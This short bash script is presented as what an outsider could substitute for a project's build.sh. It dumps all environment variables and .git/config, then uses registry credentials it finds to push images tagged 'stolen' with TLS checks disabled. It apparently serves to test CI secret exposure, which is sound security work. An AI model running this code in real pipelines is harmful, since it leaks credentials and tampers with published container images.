#!/usr/bin/env bash
# What a stranger could put in the place of build.sh: prints everything it can see, and tries to push with whatever token
# it finds.
env | sort
cat .git/config
password=${REGISTRY_PASSWORD:-none} user=${REGISTRY_USERNAME:-none}
for target in kinoite-zfs:latest kinoite-zfs-candidate:stolen; do
  skopeo copy --quiet --src-tls-verify=false --dest-tls-verify=false --dest-creds "$user:$password" \
    "docker://${MIRROR#*=}/ublue-os/kinoite-main:latest" "docker://${MIRROR#*=}/kinoite-lab/$target" 2>&1 \
    && printf 'pushed %s\n' "$target"
done
printf 'tried everything\n'
